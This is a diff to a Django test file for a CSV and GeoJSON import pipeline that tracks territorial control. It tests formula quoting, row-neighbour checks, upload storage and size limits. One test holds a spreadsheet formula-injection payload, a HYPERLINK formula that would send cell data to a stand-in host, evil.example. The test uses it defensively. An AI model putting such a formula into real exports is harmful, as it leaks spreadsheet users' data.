@@ -15,6 +15,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 
 from apps.history.models import Revision
 from apps.ingest.importer import run_job
+from apps.ingest.jobs import import_job_create
 from apps.ingest.models import ImportJob
 from apps.ingest.reference import load_dataset
 from apps.territory import selectors
@@ -73,8 +74,8 @@ def csv_bytes(header: list[str], rows: list[list]) -> bytes:
 
 
 def run(content: bytes, by, *, filename="file.csv", theater=None, dry_run=False, publish=False):
-    job = ImportJob.objects.create(user=by, filename=filename, content=content, theater=theater,
-                                   dry_run=dry_run, publish=publish)  # fmt: skip
+    job = import_job_create(user=by, filename=filename, chunks=[content], theater=theater,
+                            dry_run=dry_run, publish=publish)  # fmt: skip
     run_job(job)
     job.refresh_from_db()
     return job
@@ -316,7 +317,7 @@ def test_api_import_permissions_and_limits(theater, editor, settings):
     too_big = upload(client, b"x" * 5000)
     assert too_big.status_code == 400 and "the limit is 1,000" in json.dumps(too_big.json())
     other = client_for(user("someone", EDITORS))
-    job = ImportJob.objects.create(user=editor, filename="f.csv", content=b"x")
+    job = import_job_create(user=editor, filename="f.csv", chunks=[b"x"])
     assert other.get(f"/api/v1/imports/{job.pk}/").status_code == 404
 
 
@@ -327,7 +328,7 @@ def test_re_importing_an_export_keeps_it_published(reference, reviewer, editor):
     from apps.territory import exports
 
     mosul = ControlChange.objects.filter(place__slug="mosul")
-    body = exports.changes_csv_response(mosul, "mosul").content
+    body = b"".join(exports.changes_csv_response(mosul, "mosul").streaming_content)
     before = counts()
     assert run(body, reviewer).counts == {"changes": {"unchanged": mosul.count()}}
     assert run(body, editor).counts == {"changes": {"unchanged": mosul.count()}}
@@ -340,7 +341,8 @@ def test_a_keyless_source_round_trips_by_its_export_name(theater, reviewer):
 
     keyless = SourceFactory(key=None, url="")
     change = ChangeFactory(place=PlaceFactory(theater=theater), sources=[keyless])
-    body = exports.changes_csv_response(ControlChange.objects.filter(pk=change.pk), "c").content
+    one = ControlChange.objects.filter(pk=change.pk)
+    body = b"".join(exports.changes_csv_response(one, "c").streaming_content)
     assert f"source-{keyless.pk}".encode() in body
     assert run(body, reviewer).counts == {"changes": {"unchanged": 1}}
 
@@ -408,3 +410,206 @@ def test_hostile_geojson_gets_a_report_not_a_crash(theater, reviewer, content):
     assert job.status == "failed" and job.errors and job.finished_at is not None
     assert "\x00" not in json.dumps(job.errors)
     assert counts() == before
+
+
+# --- Formulas in CSV cells (exports quote them; imports take the quote off) --------------------
+
+
+def test_cells_quoted_against_formulas_are_imported_as_their_text(theater, reviewer):
+    formula = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
+    places = [["formula-town", "Formula Town", "'=1+1|'-5", "village", "SY", "36.70", "38.99",
+               "", "", "syria-iraq-2014-2019", ""]]  # fmt: skip
+    assert run(csv_bytes(PLACE_HEADER, places), reviewer).status == "succeeded"
+    place = Place.objects.get(slug="formula-town")
+    assert place.aliases == ["=1+1", "'-5"]  # the cell's text, split at |
+    aliases = [["formula-town", "Formula Town", "'=1+1", "village", "SY", "36.70", "38.99",
+                "", "", "syria-iraq-2014-2019", ""]]  # fmt: skip
+    assert run(csv_bytes(PLACE_HEADER, aliases), reviewer).status == "succeeded"
+    assert Place.objects.get(slug="formula-town").aliases == ["=1+1"]
+    numbers = [["formula-town", "Formula Town", "'-5", "village", "SY", "36.70", "38.99",
+                "", "", "syria-iraq-2014-2019", ""]]  # fmt: skip
+    assert run(csv_bytes(PLACE_HEADER, numbers), reviewer).status == "succeeded"
+    assert Place.objects.get(slug="formula-town").aliases == ["'-5"]  # numbers are not quoted
+
+    row = ["formula-town", "2016-01-01", "day", "controlled", "sdf", "", "", "", f"'{formula}",
+           "houston-chronicle-2017-11-04"]  # fmt: skip
+    job = run(csv_bytes(CHANGE_HEADER, [row]), reviewer)
+    assert job.status == "succeeded", job.errors
+    assert ControlChange.objects.get(place=place).summary == formula
+
+
+def test_an_exported_formula_round_trips_unchanged(theater, reviewer):
+    from apps.territory import exports
+    from tests.factories import ChangeFactory, PlaceFactory
+
+    change = ChangeFactory(place=PlaceFactory(theater=theater), summary="=1+1 (not a formula)")
+    response = exports.changes_csv_response(ControlChange.objects.filter(pk=change.pk), "c")
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    assert b"'=1+1" in body
+    assert run(body, reviewer).counts == {"changes": {"unchanged": 1}}
+
+
+def test_load_reference_takes_the_formula_quote_off(tmp_path):
+    from apps.ingest.reference import load_dataset
+
+    files = {
+        "theaters": "slug,name,start,min_lon,min_lat,max_lon,max_lat\nt,T,2014-01-01,35,28,45,38\n",
+        "groups": "slug,name,aliases\ng,G,'=1+1|'-5\n",
+        "sources": "key,title\ns,'@Source\n",
+        "places": "slug,name,aliases,kind,country,lat,lon,theater\n"
+        "p,P,'=1+1,town,SY,33,40,t\n",
+        "changes": "place,date,status,controller,sources,summary\n"
+        "p,2015-01-01,controlled,g,s,'+ taken\n",
+    }  # fmt: skip
+    for name, text in files.items():
+        (tmp_path / f"{name}.csv").write_text(text, encoding="utf-8")
+    load_dataset(tmp_path)
+    assert Place.objects.get(slug="p").aliases == ["=1+1"]
+    assert ControlChange.objects.get(place__slug="p").summary == "+ taken"
+    from apps.territory.models import ArmedGroup, Source
+
+    assert ArmedGroup.objects.get(slug="g").aliases == ["=1+1", "'-5"]
+    assert Source.objects.get(key="s").title == "@Source"
+
+
+# --- Checks grow with the rows, not their square -------------------------------------------------
+
+
+def test_each_row_is_checked_against_its_neighbours_only(theater, reviewer, monkeypatch):
+    from apps.territory import rules
+
+    run(csv_bytes(PLACE_HEADER, NEW_PLACES[:1]), reviewer, theater=theater)
+    groups = ["islamic-state", "sdf"]
+    rows = [["tall-abyad-east", (date(2000, 1, 1) + timedelta(days=i)).isoformat(), "day",
+             "controlled", groups[(i // 2) % 2], "", "", "", "", "houston-chronicle-2017-11-04"]
+            for i in range(600)]  # fmt: skip
+    assert run(csv_bytes(CHANGE_HEADER, rows[::2]), reviewer, publish=True).status == "succeeded"
+    sizes = []
+    check = rules.check_change
+
+    def counted(proposal, **options):
+        sizes.append(len(options.get("others") or ()))
+        return check(proposal, **options)
+
+    monkeypatch.setattr(rules, "check_change", counted)
+    job = run(csv_bytes(CHANGE_HEADER, rows[1::2]), reviewer, publish=True, dry_run=True)
+    assert job.status == "failed"  # each odd day repeats the day before it: changes nothing
+    assert {e["row"] for e in job.errors} == set(range(2, 302))
+    assert len(sizes) == 300 and max(sizes) <= 3, max(sizes)
+
+
+def test_neighbour_rules_across_stored_and_new_rows(theater, reviewer):
+    """The previous published change for a published row, the previous of any state for a
+    draft, a clash on one day, a back-dated row between stored ones."""
+    run(csv_bytes(PLACE_HEADER, NEW_PLACES[:1]), reviewer, theater=theater)
+    source = "houston-chronicle-2017-11-04"
+
+    def row(day, group, state=""):
+        return ["tall-abyad-east", day, "day", "controlled", group, "", "", "", "", source, state]
+
+    header = [*CHANGE_HEADER, "review_state"]
+    stored = [row("2015-01-01", "islamic-state", "published"), row("2015-03-01", "sdf", "draft"),
+              row("2015-06-01", "sdf", "published")]  # fmt: skip
+    assert run(csv_bytes(header, stored), reviewer).status == "succeeded"
+    # published on 2015-02-01 like the published one before it (the draft in between is
+    # later): changes nothing
+    job = run(csv_bytes(header, [row("2015-02-01", "islamic-state", "published")]), reviewer)
+    assert "changes nothing" in job.errors[0]["message"] and "2015-01-01" in job.errors[0][
+        "message"]  # fmt: skip
+    # a published row after the draft compares with the published change before it
+    job = run(csv_bytes(header, [row("2015-04-01", "islamic-state", "published")]), reviewer,
+              dry_run=True)  # fmt: skip
+    assert "changes nothing" in job.errors[0]["message"], job.errors
+    # a draft row after the draft compares with the draft: sdf holds, islamic-state is new
+    job = run(csv_bytes(header, [row("2015-04-01", "islamic-state", "draft")]), reviewer,
+              dry_run=True)  # fmt: skip
+    assert job.status == "succeeded", job.errors
+    job = run(csv_bytes(header, [row("2015-04-01", "sdf", "draft")]), reviewer, dry_run=True)
+    assert "the draft change #" in job.errors[0]["message"], job.errors
+    # two rows on one day
+    job = run(csv_bytes(header, [row("2016-01-01", "islamic-state"),
+                                 row("2016-01-01", "syrian-government")]), reviewer)  # fmt: skip
+    assert [e["row"] for e in job.errors] == [3]
+    assert "another row of this import" in job.errors[0]["message"]
+    # a new row on a stored day is an edit of that change
+    job = run(csv_bytes(header, [row("2015-03-01", "syrian-government", "draft")]), reviewer)
+    assert job.counts == {"changes": {"updated": 1}}, job.errors
+
+
+# --- Uploads: files, limits ----------------------------------------------------------------------
+
+
+def test_an_upload_is_kept_as_a_file_and_purged(theater, reviewer, settings, tmp_path):
+    from apps.ingest import jobs
+    from apps.ingest.tasks import purge_import_files
+
+    settings.IMPORT_ROOT = str(tmp_path / "fresh" / "imports")  # made when needed
+    content = csv_bytes(PLACE_HEADER, NEW_PLACES)
+    upload = SimpleUploadedFile("places.csv", content, content_type="text/csv")
+    job = jobs.import_job_start(user=reviewer, upload=upload, theater=theater)
+    stored = tmp_path / "fresh" / "imports" / job.file
+    assert stored.read_bytes() == content and job.size == len(content)
+    run_job(job)
+    assert job.status == "succeeded", job.errors
+    orphan = tmp_path / "fresh" / "imports" / "left-by-a-rolled-back-upload.csv"
+    orphan.write_bytes(b"x")
+    os.utime(orphan, (0, 0))
+    assert purge_import_files(days=30) == 1  # the orphan; the job's file is recent
+    assert stored.exists() and not orphan.exists()
+    ImportJob.objects.filter(pk=job.pk).update(finished_at=job.finished_at - timedelta(days=31))
+    assert purge_import_files(days=30) == 1
+    job.refresh_from_db()
+    assert job.file == "" and not stored.exists() and job.summary  # the report stays
+    job.status = "pending"
+    run_job(job)
+    assert job.status == "failed" and "no longer stored" in job.errors[0]["message"]
+
+
+def test_an_upload_is_copied_in_chunks_not_read_whole(reviewer, settings, tmp_path):
+    import tracemalloc
+
+    from django.core.files.uploadedfile import TemporaryUploadedFile
+
+    from apps.ingest import jobs
+
+    settings.IMPORT_ROOT = str(tmp_path)
+    size = 20 * 1024 * 1024
+    upload = TemporaryUploadedFile("big.csv", "text/csv", size, "utf-8")
+    for _ in range(size // (1024 * 1024)):
+        upload.write(b"x" * (1024 * 1024))
+    upload.seek(0)
+    tracemalloc.start()
+    job = jobs.import_job_start(user=reviewer, upload=upload)
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert job.size == size and (tmp_path / job.file).stat().st_size == size
+    assert peak < 5 * 1024 * 1024, f"{peak:,} bytes held to store a {size:,}-byte upload"
+
+
+def test_a_big_geojson_is_refused_clearly(theater, reviewer, settings):
+    from tests.api.conftest import client_for
+
+    settings.IMPORT_MAX_GEOJSON_BYTES = 100
+    content = json.dumps({"type": "FeatureCollection", "features": [{}] * 50}).encode()
+    too_big = upload(client_for(reviewer), content, name="places.geojson")
+    assert too_big.status_code == 400 and "read whole" in json.dumps(too_big.json())
+    job = run(content, reviewer, filename="places.geojson")
+    assert job.status == "failed" and "read whole" in job.errors[0]["message"]
+
+
+def test_pending_imports_per_user_are_limited(theater, editor, reviewer, settings):
+    from tests.api.conftest import client_for
+
+    settings.IMPORT_MAX_PENDING_PER_USER = 2
+    client = client_for(editor)
+    body = csv_bytes(PLACE_HEADER, NEW_PLACES)
+    # no commit in this test: the uploads stay pending
+    assert upload(client, body, theater=theater.slug).status_code == 202
+    assert upload(client, body, theater=theater.slug).status_code == 202
+    refused = upload(client, body, theater=theater.slug)
+    assert refused.status_code == 429, refused.content
+    assert "the limit is 2" in refused.json()["detail"]
+    assert ImportJob.objects.filter(user=editor).count() == 2
+    assert upload(client_for(reviewer), body, theater=theater.slug).status_code == 202  # theirs
+    ImportJob.objects.filter(user=editor).update(status="succeeded")  # finished: not counted
+    assert upload(client, body, theater=theater.slug).status_code == 202
